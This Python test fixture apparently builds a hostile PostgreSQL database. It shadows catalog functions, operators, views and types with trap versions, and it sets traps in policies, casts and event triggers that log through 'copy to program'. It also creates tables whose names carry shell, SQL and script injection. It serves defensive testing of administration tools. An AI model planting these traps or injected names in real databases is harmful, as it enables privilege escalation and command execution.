"""A database whose owner lays a trap under every name that a statement could find."""

import psycopg

from plimsoll_lab.servers.postgres import Postgres

OWNER = "dbown"
DATABASE = "owned"

# What a trap tries, with the rights of whoever steps on it: a file, a row, a lock.
_TRAP = """
create function evil.trap(what text) returns boolean language plpgsql
set search_path = pg_catalog as $trap$
declare told text := what || ' as ' || current_user;
begin
  begin
    insert into evil.rows values (what);
    told := told || ', row';
  exception when others then null;
  end;
  begin
    perform pg_catalog.pg_advisory_xact_lock(1);
    told := told || ', lock';
  exception when others then null;
  end;
  execute pg_catalog.format('copy (select %L) to program %L', told, 'cat >> CANARY');
  return true;
exception when insufficient_privilege then return true;
end $trap$
"""

# As a trap that passes on what the real function says, so that nobody is warned.
_FUNCTIONS = r"""
do $do$
declare p record; body text; places text;
begin
  for p in select proc.oid, proc.proname::text as name, pronargs,
                  pg_get_function_arguments(proc.oid) as arguments, pg_get_function_result(proc.oid) as result
           from pg_proc proc where pronamespace = 'pg_catalog'::regnamespace and prokind = 'f'
  loop
    select coalesce(string_agg('$' || n, ', ' order by n), '') into places from generate_series(1, p.pronargs) n;
    body := format('select evil.trap(%L); select * from pg_catalog.%I(%s)', p.name, p.name, places);
    begin
      execute format('create function evil.%I(%s) returns %s language sql volatile as %L',
                     p.name, p.arguments, p.result, body);
    exception when others then null;
    end;
  end loop;
end $do$;
create function evil.format(text, name, name) returns text language sql volatile
  as $$ select evil.trap('format'); select pg_catalog.format($1, $2, $3) $$;
create function evil.format(text, name, oid) returns text language sql volatile
  as $$ select evil.trap('format'); select pg_catalog.format($1, $2, $3) $$;
create function evil.concat(bigint, text, timestamptz) returns text language sql volatile
  as $$ select evil.trap('concat'); select pg_catalog.concat($1, $2, $3) $$;
create function evil.unnest(text[]) returns setof text language sql volatile
  as $$ select evil.trap('unnest'); select pg_catalog.unnest($1) $$;
create function evil.counted(bigint) returns bigint language sql volatile
  as $$ select evil.trap('count'); select $1 + 1 $$;
create aggregate evil.count(*) (sfunc = evil.counted, stype = bigint, initcond = '0');
create function evil.counted(bigint, name) returns bigint language sql volatile
  as $$ select evil.trap('count of names'); select $1 + 1 $$;
create aggregate evil.count(name) (sfunc = evil.counted, stype = bigint, initcond = '0');
do $do$
declare t text; a text;
begin
  foreach t in array array['bigint', 'numeric', 'double precision', 'oid', 'timestamptz', 'text', 'boolean']
  loop
    execute format('create function evil.state(%s, %s) returns %s language sql volatile as %L',
                   t, t, t, 'select evil.trap(''an aggregate''); select $2');
    foreach a in array array['sum', 'max', 'min', 'bool_or'] loop
      execute format('create aggregate evil.%I(%s) (sfunc = evil.state, stype = %s)', a, t, t);
    end loop;
  end loop;
end $do$;
"""

_OPERATORS = r"""
create schema evil_operators;
do $do$
declare o record;
begin
  for o in select oprname, oprleft::regtype::text as a, oprright::regtype::text as b, p.proname
           from pg_operator join pg_proc p on p.oid = oprcode
           where oprnamespace = 'pg_catalog'::regnamespace and oprkind = 'b'
  loop
    begin
      execute format('create operator evil_operators.%s (leftarg = %s, rightarg = %s, function = evil.%I)',
                     o.oprname, o.a, o.b, o.proname);
    exception when others then null;
    end;
  end loop;
end $do$;
"""

_TYPES_AND_VIEWS = r"""
do $do$
declare n text; v text; listed text;
begin
  foreach n in array array['oid', 'name', 'regclass', 'timestamptz', 'float8', 'int8', 'int4', 'bool',
                           'pg_lsn', 'numeric', 'interval', 'regnamespace', 'regproc', 'regtype', 'text']
  loop
    execute format('create domain evil.%I as pg_catalog.%I check (evil.trap(%L))', n, n, 'type ' || n);
  end loop;
  for v in select relname from pg_class where relnamespace = 'pg_catalog'::regnamespace
           and relkind in ('r', 'v') and has_table_privilege(oid, 'select')
  loop
    select string_agg(quote_ident(attname), ', ' order by attnum) into listed from pg_attribute
    where attrelid = ('pg_catalog.' || quote_ident(v))::regclass and attnum > 0 and not attisdropped
          and atttypid <> 'anyarray'::regtype;
    execute format('create view evil.%I as select %s from pg_catalog.%I where evil.trap(%L)',
                   v, listed, v, 'view ' || v);
  end loop;
end $do$;
"""

# `CANARY` is the value: names that a shell, a page, a terminal or SQL could take for something else.
NAMES = (
    ("public", "Order"),
    ("sch.ema", "$(touch pwned)"),
    ("public", "`touch pwned`; touch pwned"),
    ("public", "o'; drop table x; --"),
    ("public", 'say "so" & touch pwned #'),
    ("Ünï code", "two\nlines $HOME !! \\"),
    ("public", "<script>alert(1)</script>"),
)

_TABLES = r"""
create domain public.checked as text check (evil.trap('domain'));
create type public.pair as (a text, b text);
create function evil.pair_as_text(public.pair) returns text language sql as
  $$ select 'a' where evil.trap('cast') $$;
create cast (public.pair as text) with function evil.pair_as_text(public.pair) as implicit;
create table public.documents (
  id int primary key, body text, plain public.checked, two public.pair, span int4multirange
);
alter table public.documents alter body set storage external;
create table public.guarded (id int primary key, body text);
create policy mine on public.guarded using (evil.trap('policy'));
alter table public.guarded enable row level security, force row level security;
create table public.target (id int, body text);
create table public.large (id int primary key, body text);
insert into public.large select n, 'some text' from generate_series(1, 500000) n;
create view public.shown as select 1 as id, 'x'::text as body where evil.trap('view');
grant select, insert, update on all tables in schema public to public;
grant usage on schema evil, evil_operators to public;
"""

_SETTINGS = (
    "search_path = evil, evil_operators, pg_catalog, public",
    "default_transaction_isolation = serializable",
    "default_transaction_deferrable = on",
    "standard_conforming_strings = off",
    "quote_all_identifiers = on",
    "datestyle = 'German'",
    "intervalstyle = 'sql_standard'",
    "bytea_output = 'escape'",
    "extra_float_digits = -15",
    "row_security = on",
    "plan_cache_mode = force_generic_plan",
    "idle_in_transaction_session_timeout = '500ms'",
    "default_tablespace = 'nowhere'",
)
# From 17 on; longer than what the tests themselves do.
_NEWER_SETTINGS = ("transaction_timeout = '60s'",)
# When code of the owner would run as somebody creates, changes or drops something.
_EVENTS = ("ddl_command_start", "ddl_command_end", "sql_drop", "table_rewrite")


class HostileDatabase:
    """
    A database of an owner who is no superuser, on a server of ours.

    Whatever the owner's code managed to do with the rights of another is a line of `canary`.
    """

    def __init__(self, server: Postgres) -> None:
        self.server = server
        self.canary = server.data_directory / "canary"

    @property
    def dsn(self) -> str:
        """The superuser's."""
        return self.server.dsn.replace("dbname=postgres", f"dbname={DATABASE}")

    @property
    def steps(self) -> list[str]:
        """What was run, as whom, and what it managed; forgotten once asked for."""
        if not self.canary.exists():
            return []
        lines = self.canary.read_text().splitlines()
        self.canary.unlink()
        return lines

    def make(self) -> None:
        """Make the owner, the database and all traps, as the owner; the last act is its settings."""
        with psycopg.connect(self.server.dsn, autocommit=True) as admin:
            admin.execute(f"create role {OWNER} login password 'own'")
            admin.execute(f"create database {DATABASE} owner {OWNER}")
        # What an administrator adds: the usual extensions, and an event trigger with the owner's function.
        with psycopg.connect(self.dsn, autocommit=True) as admin:
            for extension in ("pg_stat_statements", "pg_prewarm"):
                admin.execute(f"create extension {extension} schema public")
        with psycopg.connect(self._owner, autocommit=True) as connection:
            connection.execute("set check_function_bodies = off")
            connection.execute("create schema evil; create table evil.rows (what text)")
            connection.execute(_TRAP.replace("CANARY", str(self.canary)))
            for part in (_FUNCTIONS, _OPERATORS, _TYPES_AND_VIEWS, _TABLES):
                connection.execute(part)
            connection.execute(
                "create function evil.on_ddl() returns event_trigger language plpgsql as "
                "$$ begin perform evil.trap('event trigger'); end $$"
            )
            _fill(connection)
        with psycopg.connect(self.dsn, autocommit=True) as admin:
            for event in _EVENTS:
                name = "watch" if event == _EVENTS[0] else f"watch_{event}"
                admin.execute(f"create event trigger {name} on {event} execute function evil.on_ddl()")
            # What bloat and the largest table are read from.
            admin.execute("set search_path = pg_catalog")
            admin.execute("analyze public.large")
        with psycopg.connect(self._owner, autocommit=True) as connection:
            is_newer = connection.info.server_version >= 170_000
            for setting in (*_SETTINGS, *(_NEWER_SETTINGS if is_newer else ())):
                connection.execute(f"alter database {DATABASE} set {setting}")

    @property
    def _careful(self) -> str:
        return f"{self.dsn} options='-c event_triggers=off -c search_path=pg_catalog'"

    @property
    def _owner(self) -> str:
        place = f"host=127.0.0.1 port={self.server.port} dbname={DATABASE}"
        return f"{place} user={OWNER} password=own"

    def as_a_role_that_may_create(self) -> str:
        """The DSN of a role of nobody's that may make schemas in the database."""
        with psycopg.connect(self._careful, autocommit=True) as admin:
            if admin.execute("select from pg_roles where rolname = 'maker'").fetchone() is None:
                admin.execute("create role maker login password 'make'")
                admin.execute(f"grant create on database {DATABASE} to maker")
                admin.execute("grant create on schema public to maker")
        return self._owner.replace(f"user={OWNER} password=own", "user=maker password=make")

    def replace_statements(self) -> None:
        """Put functions and a view of the owner's in the place of pg_stat_statements."""
        with psycopg.connect(self._careful, autocommit=True) as admin:
            admin.execute("drop extension pg_stat_statements")
        with psycopg.connect(self._owner, autocommit=True) as connection:
            connection.execute(_OWN_STATEMENTS)

    def restore_statements(self) -> None:
        """Take that back."""
        with psycopg.connect(self._careful, autocommit=True) as admin:
            admin.execute(
                "drop view if exists public.pg_stat_statements; "
                "drop function if exists public.pg_stat_statements(boolean); "
                "create extension pg_stat_statements schema public"
            )


_OWN_STATEMENTS = """
create function public.pg_stat_statements(boolean) returns table (queryid bigint) language sql
  as $$ select 1::pg_catalog.int8 where evil.trap('statements') $$;
create view public.pg_stat_statements as select * from public.pg_stat_statements(true)
"""


def _fill(connection: psycopg.Connection) -> None:
    from psycopg import sql

    value = "pg_catalog.string_agg(pg_catalog.md5(n::text), '')"
    connection.execute(
        "insert into public.documents (id, body, plain, two, span) "
        f"select g, v, v, row(v, v)::public.pair, null from generate_series(1, 20) g, "
        f"(select {value} as v from generate_series(1, 400) n) x"
    )
    connection.execute("insert into public.guarded select id, body from public.documents")
    for schema, name in NAMES:
        table = sql.Identifier(schema, name)
        connection.execute(sql.SQL("create schema if not exists {}").format(sql.Identifier(schema)))
        connection.execute(sql.SQL("create table {} (id int primary key, body text)").format(table))
        connection.execute(sql.SQL("alter table {} alter body set storage external").format(table))
        connection.execute(sql.SQL("insert into {} select id, body from public.documents").format(table))
